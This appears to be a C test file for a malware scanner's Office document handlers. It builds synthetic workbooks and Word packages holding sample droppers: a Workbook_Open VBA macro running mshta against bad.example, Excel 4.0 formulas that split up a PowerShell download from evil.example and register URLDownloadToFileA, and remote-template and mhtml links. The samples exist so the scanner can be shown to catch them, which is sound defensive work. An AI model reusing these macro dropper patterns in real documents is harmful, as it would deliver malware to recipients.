/*
 * check_office.c - the Office handlers end to end (documents built here:
 * an OLE2 workbook with a VBA project and an XLM sheet, an OOXML package
 * with a remote template and a vbaProject.bin), document text extraction
 * for the lure, BIFF and SYLK, and the seed sample's disguise (an OLE2
 * workbook named .xlsm) on a corpus file.
 */
#include "config.h"

#include <zlib.h>

#include "office/office.h"
#include "office/ole.h"
#include "office/ooxml.h"
#include "testutil.h"
#include "office/xlm.h"

/* ---- builders ------------------------------------------------------------- */

static void
put16(GByteArray *b, uint16_t v)
{
	uint8_t p[2] = { (uint8_t)v, (uint8_t)(v >> 8) };

	g_byte_array_append(b, p, 2);
}

static void
put32(GByteArray *b, uint32_t v)
{
	uint8_t p[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16),
		(uint8_t)(v >> 24) };

	g_byte_array_append(b, p, 4);
}

static void
set32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

/* MS-OVBA container of literal-only chunks (valid, if not small). */
static GByteArray *
ovba_compress(const char *s, size_t len)
{
	GByteArray *b = g_byte_array_new();
	uint8_t sig = 1;

	g_byte_array_append(b, &sig, 1);
	for (size_t off = 0; off < len; off += 3584) {
		size_t n = MIN((size_t)3584, len - off);
		size_t groups = (n + 7) / 8;
		size_t csize = n + groups;
		uint8_t zero = 0;

		put16(b, (uint16_t)(0xB000 | (csize + 2 - 3)));
		for (size_t i = 0; i < n; i += 8) {
			g_byte_array_append(b, &zero, 1);
			g_byte_array_append(b, (const uint8_t *)s + off + i,
			    (guint)MIN((size_t)8, n - i));
		}
	}
	return b;
}

struct cfb_ent {
	const char *name;
	int parent;		/* index in the list, -1 = root */
	bool storage;
	GByteArray *data;	/* streams */
};

/*
 * A compound file with 512-byte sectors and every stream in the FAT
 * (mini stream cutoff 0, which the reader accepts). Entries of one
 * storage are chained through their right sibling pointers.
 */
static GByteArray *
cfb_build(struct cfb_ent *e, int n)
{
	GByteArray *out = g_byte_array_new();
	GByteArray *data = g_byte_array_new();
	uint32_t start[32], nsec_data = 0, ndir, nfat = 1, total;
	uint32_t *fat;
	int last_child[33];

	ck_assert(n < 31);
	for (int i = 0; i < n; i++) {
		uint32_t k;

		start[i] = 0xFFFFFFFEu;
		if (e[i].storage || e[i].data->len == 0)
			continue;
		start[i] = nsec_data;
		k = (e[i].data->len + 511) / 512;
		g_byte_array_append(data, e[i].data->data, e[i].data->len);
		g_byte_array_set_size(data, (nsec_data + k) * 512);
		nsec_data += k;
	}
	ndir = (uint32_t)(n + 1 + 3) / 4;
	total = nfat + ndir + nsec_data;
	ck_assert(total <= 128);
	fat = g_new(uint32_t, 128);
	for (int i = 0; i < 128; i++)
		fat[i] = 0xFFFFFFFFu;
	fat[0] = 0xFFFFFFFDu;
	for (uint32_t s = 1; s < 1 + ndir; s++)
		fat[s] = s + 1 < 1 + ndir ? s + 1 : 0xFFFFFFFEu;
	for (int i = 0; i < n; i++) {
		uint32_t k, base;

		if (start[i] == 0xFFFFFFFEu)
			continue;
		k = (e[i].data->len + 511) / 512;
		base = 1 + ndir + start[i];
		for (uint32_t s = 0; s < k; s++)
			fat[base + s] = s + 1 < k ? base + s + 1 : 0xFFFFFFFEu;
		start[i] = base;
	}
	/* header */
	g_byte_array_set_size(out, 512);
	memset(out->data, 0, 512);
	memcpy(out->data, EMF_OLE_MAGIC, 8);
	out->data[0x18] = 0x3E;
	out->data[0x1A] = 3;
	out->data[0x1C] = 0xFE;
	out->data[0x1D] = 0xFF;
	out->data[0x1E] = 9;
	out->data[0x20] = 6;
	set32(out->data + 0x2C, 1);
	set32(out->data + 0x30, 1);
	set32(out->data + 0x38, 0);
	set32(out->data + 0x3C, 0xFFFFFFFEu);
	set32(out->data + 0x44, 0xFFFFFFFEu);
	for (int i = 0; i < 109; i++)
		set32(out->data + 0x4C + 4 * i, i == 0 ? 0 : 0xFFFFFFFFu);
	for (int i = 0; i < 128; i++)
		put32(out, fat[i]);
	g_free(fat);
	/* directory: entry 0 root, entry i+1 = e[i] */
	for (int i = 0; i < 33; i++)
		last_child[i] = -1;
	{
		uint8_t ents[32][128];
		uint32_t child[33], right[33];

		for (int i = 0; i < 33; i++)
			child[i] = right[i] = 0xFFFFFFFFu;
		for (int i = 0; i < n; i++) {
			int p = e[i].parent + 1;

			if (last_child[p] < 0)
				child[p] = (uint32_t)i + 1;
			else
				right[last_child[p]] = (uint32_t)i + 1;
			last_child[p] = i + 1;
		}
		memset(ents, 0, sizeof(ents));
		for (int i = 0; i <= n; i++) {
			const char *name = i ? e[i - 1].name : "Root Entry";
			size_t l = strlen(name);

			for (size_t k = 0; k < l; k++)
				ents[i][2 * k] = (uint8_t)name[k];
			ents[i][0x40] = (uint8_t)(2 * l + 2);
			ents[i][0x42] = i == 0 ? 5 : e[i - 1].storage ? 1 : 2;
			set32(ents[i] + 0x44, 0xFFFFFFFFu);
			set32(ents[i] + 0x48, right[i]);
			set32(ents[i] + 0x4C, child[i]);
			set32(ents[i] + 0x74, i ? start[i - 1] : 0xFFFFFFFEu);
			set32(ents[i] + 0x78, i && !e[i - 1].storage ?
			    e[i - 1].data->len : 0);
		}
		g_byte_array_append(out, &ents[0][0], ndir * 512);
	}
	g_byte_array_append(out, data->data, data->len);
	g_byte_array_free(data, TRUE);
	return out;
}

static void
rec_add(GByteArray *b, uint16_t id, const void *d, uint32_t n)
{
	put16(b, id);
	put32(b, n);
	g_byte_array_append(b, d, n);
}

static GByteArray *vba_dir_at(const char *module, uint32_t offset);

static GByteArray *
vba_dir(const char *module)
{
	return vba_dir_at(module, 0);
}

/* A dir stream with one module whose source starts at offset. */
static GByteArray *
vba_dir_at(const char *module, uint32_t offset)
{
	GByteArray *d = g_byte_array_new();
	uint8_t cp[2] = { 0xE4, 0x04 }, off[4];
	GByteArray *c;

	set32(off, offset);

	rec_add(d, 0x0003, cp, 2);
	rec_add(d, 0x0019, module, (uint32_t)strlen(module));
	rec_add(d, 0x001A, module, (uint32_t)strlen(module));
	rec_add(d, 0x0031, off, 4);
	rec_add(d, 0x0021, "", 0);
	rec_add(d, 0x002B, "", 0);
	rec_add(d, 0x0010, "", 0);
	c = ovba_compress((const char *)d->data, d->len);
	g_byte_array_free(d, TRUE);
	return c;
}

static const char dropper[] =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub Workbook_Open()\r\n"
    "  Shell \"mshta http://bad.example/x.hta\"\r\n"
    "End Sub\r\n";

/* BIFF8 workbook globals: BOF, BoundSheet8 "Macro1" (dt 1), Auto_Open. */
static GByteArray *
biff_book(bool filepass)
{
	GByteArray *b = g_byte_array_new();
	uint8_t bof[16] = { 0x00, 0x06, 0x05, 0x00 };
	uint8_t sheet[] = { 0, 0, 0, 0, 0x01, 0x01, 6, 0, 'M', 'a', 'c',
		'r', 'o', '1' };
	uint8_t lbl[16] = { 0x20, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0x00, 0x01 };
	uint8_t fp[6] = { 1, 0, 2, 0, 2, 0 };

	put16(b, 0x0809);
	put16(b, sizeof(bof));
	g_byte_array_append(b, bof, sizeof(bof));
	if (filepass) {
		put16(b, 0x002F);
		put16(b, sizeof(fp));
		g_byte_array_append(b, fp, sizeof(fp));
	}
	put16(b, 0x0085);
	put16(b, sizeof(sheet));
	g_byte_array_append(b, sheet, sizeof(sheet));
	put16(b, 0x0018);
	put16(b, sizeof(lbl));
	g_byte_array_append(b, lbl, sizeof(lbl));
	put16(b, 0x000A);
	put16(b, 0);
	return b;
}

static GByteArray *
macro_workbook(bool with_book)
{
	struct cfb_ent e[5];
	GByteArray *src = ovba_compress(dropper, strlen(dropper));
	GByteArray *dir = vba_dir("Module1");
	GByteArray *book = biff_book(false);
	GByteArray *empty = g_byte_array_new();
	GByteArray *r;
	int n = 0;

	if (with_book)
		e[n++] = (struct cfb_ent){ "Workbook", -1, false, book };
	e[n] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
	e[n + 1] = (struct cfb_ent){ "VBA", n, true, empty };
	e[n + 2] = (struct cfb_ent){ "dir", n + 1, false, dir };
	e[n + 3] = (struct cfb_ent){ "Module1", n + 1, false, src };
	r = cfb_build(e, n + 4);
	g_byte_array_free(src, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(book, TRUE);
	g_byte_array_free(empty, TRUE);
	return r;
}

/* A stored zip (method 0). */
static void
zip_add(GByteArray *z, GByteArray *cd, const char *name, const void *d,
    size_t len)
{
	uint32_t crc = (uint32_t)crc32(0, d, (uInt)len);
	uint32_t off = z->len;
	uint16_t nl = (uint16_t)strlen(name);

	put32(z, 0x04034b50);
	put16(z, 20); put16(z, 0); put16(z, 0); put16(z, 0); put16(z, 0);
	put32(z, crc); put32(z, (uint32_t)len); put32(z, (uint32_t)len);
	put16(z, nl); put16(z, 0);
	g_byte_array_append(z, (const uint8_t *)name, nl);
	g_byte_array_append(z, d, (guint)len);
	put32(cd, 0x02014b50);
	put16(cd, 20); put16(cd, 20); put16(cd, 0); put16(cd, 0);
	put16(cd, 0); put16(cd, 0);
	put32(cd, crc); put32(cd, (uint32_t)len); put32(cd, (uint32_t)len);
	put16(cd, nl); put16(cd, 0); put16(cd, 0); put16(cd, 0); put16(cd, 0);
	put32(cd, 0); put32(cd, off);
	g_byte_array_append(cd, (const uint8_t *)name, nl);
}

static void
zip_finish(GByteArray *z, GByteArray *cd, uint16_t n)
{
	uint32_t off = z->len;

	g_byte_array_append(z, cd->data, cd->len);
	put32(z, 0x06054b50);
	put16(z, 0); put16(z, 0); put16(z, n); put16(z, n);
	put32(z, cd->len); put32(z, off); put16(z, 0);
}

/* ---- end to end ------------------------------------------------------------ */

START_TEST(ole_workbook_named_xlsm)
{
	GByteArray *b = macro_workbook(true);
	char *json = tu_scan_file_json(b->data, b->len, "invoice.xlsm");
	const char *const want[] = { "\"OFFICE_MACRO\"", "\"MACRO_AUTOEXEC\"",
		"\"MACRO_SUSPICIOUS\"", "\"MACRO_URL\"", "\"XLM_MACRO\"",
		"\"FILE_TYPE_MISMATCH\"", "\"OLE2 Excel\"", "\"Macro1 (hidden)\"",
		"\"Workbook_Open\"", "\"mshta\"",
		"\"http://bad.example/x.hta\"", "\"vba_sha256\":\"", NULL };

	tu_want_in(json, want, true);
	g_free(json);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(ooxml_remote_template_and_vba)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
	GByteArray *vba = macro_workbook(false);
	const char *ct = "<?xml version=\"1.0\"?><Types xmlns=\"x\"/>";
	const char *doc = "<w:document><w:body><w:p><w:r><w:t>Click "
	    "&quot;Enable Editing&quot; &amp; then</w:t></w:r></w:p>"
	    "</w:body></w:document>";
	const char *rels = "<Relationships><Relationship Id=\"rId1\" "
	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
	    "relationships/attachedTemplate\" Target=\"http://tpl.example/"
	    "t.dotm?a=1&amp;b=2\" TargetMode=\"External\"/></Relationships>";
	char *json;
	const char *const want[] = { "\"OOXML Word\"",
		"\"attachedTemplate: http://tpl.example/t.dotm?a=1&b=2\"",
		"\"OFFICE_MACRO\"", "word/vbaProject.bin",
		NULL };
	const char *const not[] = { "\"FILE_TYPE_MISMATCH\"",
		"\"ARCHIVE_MALFORMED\"", NULL };

	zip_add(z, cd, "[Content_Types].xml", ct, strlen(ct));
	zip_add(z, cd, "word/document.xml", doc, strlen(doc));
	zip_add(z, cd, "word/_rels/settings.xml.rels", rels, strlen(rels));
	zip_add(z, cd, "word/vbaProject.bin", vba->data, vba->len);
	zip_finish(z, cd, 4);
	json = tu_scan_file_json(z->data, z->len, "report.docx");
	tu_want_in(json, want, true);
	tu_want_in(json, not, false);
	g_free(json);
	g_byte_array_free(z, TRUE);
	g_byte_array_free(cd, TRUE);
	g_byte_array_free(vba, TRUE);
}
END_TEST

/* The seed sample's disguise, on a real workbook of the corpus. */
START_TEST(corpus_xls_named_xlsm)
{
	char *path = tu_corpus("tika-office/testEXCEL_macro.xls");
	char *alt = path ? NULL :
	    tu_srcpath("../../shared/corpus/tika-office/testEXCEL_macro.xls");
	gchar *d = NULL;
	gsize len;
	char *json;
	const char *const want[] = { "\"FILE_TYPE_MISMATCH\"",
		"\"OFFICE_MACRO\"", NULL };

	if (!g_file_get_contents(path ? path : alt, &d, &len, NULL)) {
		g_free(path);
		g_free(alt);
		return;		/* corpus absent: skipped */
	}
	json = tu_scan_file_json((const uint8_t *)d, len, "Rechnung.xlsm");
	tu_want_in(json, want, true);
	g_free(json);
	g_free(d);
	g_free(path);
	g_free(alt);
}
END_TEST

/* ---- text for the lure ------------------------------------------------------ */

static void
append_utf16(GByteArray *b, const char *utf8)
{
	glong n;
	gunichar2 *u = g_utf8_to_utf16(utf8, -1, NULL, &n, NULL);

	for (glong i = 0; i < n; i++)
		put16(b, u[i]);
	g_free(u);
}

START_TEST(text_runs_hold_lure)
{
	const char *const phrases[] = { "コンテンツの有効化",
		"編集を有効にする", "Enable Content", "Abilita modifiche",
		NULL };
	GByteArray *b = g_byte_array_new();
	uint8_t junk[] = { 0x00, 0x01, 0x9F, 0x02, 0x00, 0xFF, 0x07 };
	const char *latin = "Please click Enable Editing above";
	const char *latin1 = "Fai clic su \xe8 Abilita contenuto";	/* è */
	GString *t = g_string_new(NULL);

	/* UTF-16LE runs at even and odd offsets, between binary junk. */
	g_byte_array_append(b, junk, sizeof(junk));
	append_utf16(b, phrases[0]);
	g_byte_array_append(b, junk, 4);
	append_utf16(b, phrases[1]);
	g_byte_array_append(b, junk, 3);
	append_utf16(b, "To view, click Enable Content");
	g_byte_array_append(b, junk, sizeof(junk));
	append_utf16(b, "Fare clic su Abilita modifiche");
	g_byte_array_append(b, junk, 2);
	g_byte_array_append(b, (const uint8_t *)latin, strlen(latin));
	g_byte_array_append(b, junk, 2);
	g_byte_array_append(b, (const uint8_t *)latin1, strlen(latin1));
	g_byte_array_append(b, junk, 1);

	emf_office_text_runs(b->data, b->len, t, 1 << 20);
	for (size_t i = 0; phrases[i] != NULL; i++)
		ck_assert_msg(strstr(t->str, phrases[i]) != NULL,
		    "text lacks %s; got:\n%s", phrases[i], t->str);
	ck_assert_msg(strstr(t->str, "Enable Editing above") != NULL,
	    "8-bit run missing; got:\n%s", t->str);
	ck_assert_msg(strstr(t->str, "su è Abilita contenuto") != NULL,
	    "Latin-1 run not decoded; got:\n%s", t->str);
	ck_assert(g_utf8_validate(t->str, (gssize)t->len, NULL));
	/* The cap holds, on a character boundary. */
	g_string_truncate(t, 0);
	emf_office_text_runs(b->data, b->len, t, 10);
	ck_assert_uint_le(t->len, 10);
	ck_assert(g_utf8_validate(t->str, (gssize)t->len, NULL));
	g_string_free(t, TRUE);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(xml_text_decodes_entities)
{
	const char *xml = "<?xml version=\"1.0\"?><w:document><w:body>"
	    "<w:p><w:r><w:t>Click &quot;Enable&#x20;Editing&quot;</w:t>"
	    "</w:r><w:r><w:tab/><w:t xml:space=\"preserve\"> &amp; "
	    "more</w:t></w:r></w:p><!-- <w:t>not this</w:t> -->"
	    "<w:p><w:r><w:instrText>HYPERLINK</w:instrText><w:t>編集を"
	    "有効にする&#12354;</w:t></w:r></w:p><w:p><w:r><w:t>cut";
	GString *t = g_string_new(NULL);

	emf_ooxml_xml_text(xml, strlen(xml), "t", t, 1 << 20);
	ck_assert_msg(strstr(t->str, "Click \"Enable Editing\"") != NULL &&
	    strstr(t->str, " & more") != NULL, "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "\n編集を有効にするあ") != NULL,
	    "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "not this") == NULL &&
	    strstr(t->str, "HYPERLINK") == NULL, "got: %s", t->str);
	g_string_free(t, TRUE);
}
END_TEST

/* Numeric references past U+10FFFF do not wrap to ASCII (&#x100000041;
 * used to decode to "A"); leading zeros are fine; too many digits are
 * no reference at all. */
START_TEST(xml_text_numeric_reference_overflow)
{
	const char *xml = "<w:t>[&#x100000041;][&#4294967361;][&#x110000;]"
	    "[&#x10FFFF;][&#x0000000042;][&#0000000067;]"
	    "[&#x00000000000000000000000000000000044;]</w:t>";
	GString *t = g_string_new(NULL);

	emf_ooxml_xml_text(xml, strlen(xml), "t", t, 1 << 20);
	ck_assert_msg(strstr(t->str, "[\xef\xbf\xbd][\xef\xbf\xbd]"
	    "[\xef\xbf\xbd][\xf4\x8f\xbf\xbf][B][C]") != NULL,
	    "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "[&#x000") != NULL, "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "A") == NULL, "wrapped: %s", t->str);
	g_string_free(t, TRUE);
}
END_TEST

/* ---- BIFF and SYLK ----------------------------------------------------------- */

START_TEST(biff_walk_sheets_names_filepass)
{
	GByteArray *b = biff_book(false);
	struct emf_biff_info bi;

	ck_assert(emf_biff_walk(b->data, b->len, &bi));
	ck_assert_uint_eq(bi.biff, 8);
	ck_assert_msg(bi.macro_sheets && bi.macro_sheets->len == 1 &&
	    strcmp(g_ptr_array_index(bi.macro_sheets, 0),
	    "Macro1 (hidden)") == 0, "macro sheet not found");
	ck_assert_msg(bi.auto_names && strcmp(g_ptr_array_index(
	    bi.auto_names, 0), "Auto_Open") == 0, "Auto_Open not found");
	ck_assert(!bi.encrypted);
	emf_biff_info_clear(&bi);
	/* Every truncation: no overrun, and marked malformed if cut in a
	 * record. */
	for (size_t n = 0; n < b->len; n++) {
		if (emf_biff_walk(b->data, n, &bi))
			emf_biff_info_clear(&bi);
	}
	g_byte_array_free(b, TRUE);

	b = biff_book(true);
	ck_assert(emf_biff_walk(b->data, b->len, &bi));
	ck_assert(bi.encrypted);
	ck_assert_str_eq(bi.encryption, "RC4 CryptoAPI");
	/* After FilePass the sheet record is ciphertext: not read. */
	ck_assert_ptr_null(bi.macro_sheets);
	emf_biff_info_clear(&bi);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(sylk_macro_sheet)
{
	const char *slk = "ID;PWXL;N;E\r\nO;L;E;D;V0\r\nNN;NAuto_Open;ER1C1\r\n"
	    "C;Y1;X1;EEXEC(\"calc.exe\")\r\nE\r\n";
	const char *plain = "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;Y2;X1;ESUM(R1C1)"
	    "\r\nE\r\n";
	struct emf_biff_info bi;
	GString *f = g_string_new(NULL);

	ck_assert(emf_sylk_macro((const uint8_t *)slk, strlen(slk), &bi, f));
	ck_assert_ptr_nonnull(bi.macro_sheets);
	ck_assert_ptr_nonnull(strstr(f->str, "EXEC(\"calc.exe\")"));
	emf_biff_info_clear(&bi);
	ck_assert(!emf_sylk_macro((const uint8_t *)plain, strlen(plain), &bi,
	    NULL));
	emf_biff_info_clear(&bi);
	g_string_free(f, TRUE);
}
END_TEST

/* A FORMULA record ([MS-XLS] 2.4.127) at row, col holding rgce. */
static void
biff_formula(GByteArray *b, uint16_t row, uint16_t col, const uint8_t *rgce,
    uint16_t cce)
{
	uint8_t fixed[16] = { 0 };

	put16(b, 0x0006);
	put16(b, (uint16_t)(22 + cce));
	put16(b, row);
	put16(b, col);
	g_byte_array_append(b, fixed, 16);	/* ixfe, num, grbit, chn */
	put16(b, cce);
	g_byte_array_append(b, rgce, cce);
}

static void
ptg_str(GByteArray *b, const char *s)
{
	uint8_t h[3] = { 0x17, (uint8_t)strlen(s), 0 };

	g_byte_array_append(b, h, 3);
	g_byte_array_append(b, (const uint8_t *)s, (guint)strlen(s));
}

static void
ptg_raw(GByteArray *b, const char *hex)
{
	for (; hex[0] && hex[1]; hex += 2) {
		uint8_t v = (uint8_t)(g_ascii_xdigit_value(hex[0]) << 4 |
		    g_ascii_xdigit_value(hex[1]));

		g_byte_array_append(b, &v, 1);
	}
}

/* Globals (biff_book) and a macro sheet with a dropper's formulas. */
static GByteArray *
xlm_book(void)
{
	GByteArray *b = biff_book(false), *f = g_byte_array_new();
	uint8_t bof[16] = { 0x00, 0x06, 0x40, 0x00 };

	put16(b, 0x0809);
	put16(b, sizeof(bof));
	g_byte_array_append(b, bof, sizeof(bof));
	/* EXEC("cmd /c po" & "wer" & CHAR(115) & "hell iwr http://...") */
	ptg_str(f, "cmd /c po");
	ptg_str(f, "wer");
	ptg_raw(f, "08" "1E7300" "416F00" "08");
	ptg_str(f, "hell iwr http://evil.example/a.exe");
	ptg_raw(f, "08" "42016E00");
	biff_formula(b, 0, 0, f->data, (uint16_t)f->len);
	g_byte_array_set_size(f, 0);
	/* REGISTER("urlmon", "URLDownloadToFileA", "JJCCJJ", "dl") */
	ptg_str(f, "urlmon");
	ptg_str(f, "URLDownloadToFileA");
	ptg_str(f, "JJCCJJ");
	ptg_str(f, "dl");
	ptg_raw(f, "42049500");
	biff_formula(b, 1, 0, f->data, (uint16_t)f->len);
	g_byte_array_set_size(f, 0);
	/* FORMULA.FILL("x", A5): a command equivalent (Cetab 97). */
	ptg_str(f, "x");
	ptg_raw(f, "440400" "00C0" "42026180");
	biff_formula(b, 2, 0, f->data, (uint16_t)f->len);
	g_byte_array_set_size(f, 0);
	ptg_raw(f, "42003600");		/* HALT() */
	biff_formula(b, 3, 0, f->data, (uint16_t)f->len);
	put16(b, 0x000A);
	put16(b, 0);
	g_byte_array_free(f, TRUE);
	return b;
}

START_TEST(biff_formulas_decode)
{
	GByteArray *b = xlm_book();
	struct emf_biff_info bi;
	const char *const lines[] = {
		"A1: =EXEC(\"cmd /c powershell iwr http://evil.example/a.exe\")",
		"A2: =REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\","
		    "\"dl\")",
		"A3: =FORMULA.FILL(\"x\",A5)", "A4: =HALT()", NULL };
	GPtrArray *susp = NULL;

	ck_assert(emf_biff_walk(b->data, b->len, &bi));
	ck_assert_uint_eq(bi.nformulas, 4);
	for (size_t i = 0; lines[i] != NULL; i++)
		ck_assert_msg(strstr(bi.formulas->str, lines[i]) != NULL,
		    "want %s; got:\n%s", lines[i], bi.formulas->str);
	emf_xlm_analyse(bi.formulas->str, bi.formulas->len, &susp);
	ck_assert_ptr_nonnull(susp);
	ck_assert_uint_eq(susp->len, 3);	/* EXEC, REGISTER, FORMULA.FILL */
	g_ptr_array_free(susp, TRUE);
	emf_biff_info_clear(&bi);
	/* Every truncation of the stream: no overrun, no leak. */
	for (size_t n = 0; n < b->len; n++)
		if (emf_biff_walk(b->data, n, &bi))
			emf_biff_info_clear(&bi);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(xlm_formula_tokens)
{
	GByteArray *f = g_byte_array_new();
	GString *out = g_string_new(NULL);
	GPtrArray *names = g_ptr_array_new();
	GPtrArray *susp = NULL;
	GString *many = g_string_new(NULL);

	/* A unknown PtgFunc arity stops, keeping what was decoded. */
	ptg_str(f, "a");
	ptg_raw(f, "41FF01");
	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
	ck_assert_str_eq(out->str, "\"a\"");
	/* A PtgStr longer than the formula: refused, nothing read past. */
	g_byte_array_set_size(f, 0);
	g_string_truncate(out, 0);
	ptg_raw(f, "17C800414243");
	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
	/* A user-defined call through a name (Ftab 255), IF, SET.VALUE. */
	g_ptr_array_add(names, (char *)"Kernel32_WinExec");
	g_byte_array_set_size(f, 0);
	g_string_truncate(out, 0);
	ptg_raw(f, "2301000000");
	ptg_str(f, "calc");
	ptg_raw(f, "1E0100" "4203FF00");
	ck_assert(emf_xlm_formula(f->data, f->len, 8, names, out));
	ck_assert_str_eq(out->str, "Kernel32_WinExec(\"calc\",1)");
	/* Stack overflow of operands: bounded, returns false. */
	g_byte_array_set_size(f, 0);
	g_string_truncate(out, 0);
	for (int i = 0; i < 100; i++)
		ptg_raw(f, "1E0100");
	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
	/* CHAR() of a computed value stays a call; heavy use is reported. */
	for (int i = 0; i < 12; i++)
		g_string_append(many, "CHAR(A1+1)&");
	emf_xlm_analyse(many->str, many->len, &susp);
	ck_assert_msg(susp != NULL && strcmp(g_ptr_array_index(susp, 0),
	    "XLM CHAR() obfuscation") == 0, "CHAR() obfuscation missing");
	g_ptr_array_free(susp, TRUE);
	susp = NULL;
	/* Names inside string literals are not calls. */
	emf_xlm_analyse("=ALERT(\"EXEC(x)\")", 17, &susp);
	ck_assert_ptr_null(susp);
	g_string_free(many, TRUE);
	g_ptr_array_free(names, TRUE);
	g_string_free(out, TRUE);
	g_byte_array_free(f, TRUE);
}
END_TEST

START_TEST(xlm_dropper_end_to_end)
{
	GByteArray *book = xlm_book();
	GByteArray *empty = g_byte_array_new();
	struct cfb_ent e[1] = { { "Workbook", -1, false, book } };
	GByteArray *cfb = cfb_build(e, 1);
	char *json = tu_scan_file_json(cfb->data, cfb->len, "invoice.xls");
	const char *const want[] = { "\"XLM_MACRO\"", "\"MACRO_AUTOEXEC\"",
		"\"MACRO_SUSPICIOUS\"", "\"MACRO_URL\"", "XLM EXEC()",
		"XLM REGISTER()", "URLDownloadToFileA", "powershell",
		"http://evil.example/a.exe", NULL };

	tu_want_in(json, want, true);
	/* Quarantine at least (the composites for an outside macro that
	 * runs by itself may take it to reject). */
	ck_assert_msg(strstr(json, "\"action\":\"quarantine\"") != NULL ||
	    strstr(json, "\"action\":\"reject\"") != NULL, "%.2000s", json);
	g_free(json);
	g_byte_array_free(cfb, TRUE);
	g_byte_array_free(book, TRUE);
	g_byte_array_free(empty, TRUE);
}
END_TEST

/* The real Excel 4.0 samples: formulas decoded, ALERT and HALT. */
START_TEST(corpus_excel4_formulas)
{
	const char *files[] = {
		"oletools-testdata/excel4-macros/excel4_sample_macro.xls",
		"oletools-testdata/excel4-macros/"
		    "excel4_sample_macro_excel5_format.xls", NULL };

	for (size_t i = 0; files[i] != NULL; i++) {
		char *path = tu_corpus(files[i]);
		gchar *d = NULL;
		gsize len;
		char *json;
		const char *const want[] = { "\"XLM formulas\"",
			"\"XLM_MACRO\"", "\"MACRO_AUTOEXEC\"", NULL };
		const char *const not[] = { "\"MACRO_SUSPICIOUS\"", NULL };

		if (path == NULL || !g_file_get_contents(path, &d, &len,
		    NULL)) {
			g_free(path);
			continue;	/* corpus absent: skipped */
		}
		json = tu_scan_file_json((const uint8_t *)d, len, "x.xls");
		tu_want_in(json, want, true);
		tu_want_in(json, not, false);
		g_free(json);
		g_free(d);
		g_free(path);
	}
}
END_TEST

/* Scan a corpus file as an attachment named name; NULL when absent. */
static char *
scan_corpus(const char *rel, const char *name)
{
	char *path = tu_corpus(rel);
	gchar *d = NULL;
	gsize len;
	char *json;

	if (path == NULL || !g_file_get_contents(path, &d, &len, NULL)) {
		g_free(path);
		return NULL;
	}
	json = tu_scan_file_json((const uint8_t *)d, len, name);
	g_free(d);
	g_free(path);
	return json;
}

START_TEST(ooxml_external_links_and_schemes)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
	const char *ct = "<?xml version=\"1.0\"?><Types xmlns=\"x\"/>";
	const char *doc = "<w:document><w:body><w:p><w:r><w:t>Hi</w:t>"
	    "</w:r></w:p></w:body></w:document>";
	const char *rels = "<Relationships>"
	    "<Relationship Id=\"rId1\" Type=\"http://x/relationships/"
	    "oleObject\" Target=\"mhtml:http://evil.example/a.html!x-usc:"
	    "http://evil.example/a.html\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rId2\" Type=\"http://x/relationships/"
	    "hyperlink\" Target=\"search-ms:query=invoice&amp;crumb=location:"
	    "\\\\evil.example@80\\pub\" TargetMode=\"External\"/>"
	    "</Relationships>";
	const char *settings = "<Relationships><Relationship Id=\"rId1\" "
	    "Type=\"http://x/relationships/attachedTemplate\" Target=\""
	    "\\\\203.0.113.7\\share\\t.dotm\" TargetMode=\"External\"/>"
	    "</Relationships>";
	char *json;
	const char *const want[] = { "\"OFFICE_DANGEROUS_SCHEME\"",
		"oleObject mhtml:http://evil.example/a.html",
		"hyperlink search-ms:query=invoice",
		"\"OFFICE_EXTERNAL_TEMPLATE\"", "\\\\\\\\203.0.113.7",
		"\"OFFICE_EXTERNAL_OBJECT\"", NULL };

	zip_add(z, cd, "[Content_Types].xml", ct, strlen(ct));
	zip_add(z, cd, "word/document.xml", doc, strlen(doc));
	zip_add(z, cd, "word/_rels/document.xml.rels", rels, strlen(rels));
	zip_add(z, cd, "word/_rels/settings.xml.rels", settings,
	    strlen(settings));
	zip_finish(z, cd, 4);
	json = tu_scan_file_json(z->data, z->len, "order.docx");
	tu_want_in(json, want, true);
	g_free(json);
	g_byte_array_free(z, TRUE);
	g_byte_array_free(cd, TRUE);

	/* Real files: a remote template (Tika), a remote OLE link
	 * (oletools); a template on the author's disk is no sign. */
	if ((json = scan_corpus("tika-office/testAttachedTemplate.docx",
	    "a.docx")) != NULL) {
		const char *const w[] = { "\"OFFICE_EXTERNAL_TEMPLATE\"",
			"http://example.com/templates/malicious.dotx",
			"\"action\":\"quarantine\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
	if ((json = scan_corpus("oletools-testdata/oleobj/external_link/"
	    "sample_with_external_link_to_doc.xlsx", "a.xlsx")) != NULL) {
		const char *const w[] = { "\"OFFICE_EXTERNAL_OBJECT\"", NULL };

		tu_want_in(json, w, true);
		g_free(json);
	}
	if ((json = scan_corpus("tika-office/testWORD_template.docx",
	    "a.docx")) != NULL) {
		const char *const w[] = { "\"OFFICE_EXTERNAL_TEMPLATE\"",
			"\"OFFICE_EXTERNAL_OBJECT\"", NULL };

		tu_want_in(json, w, false);
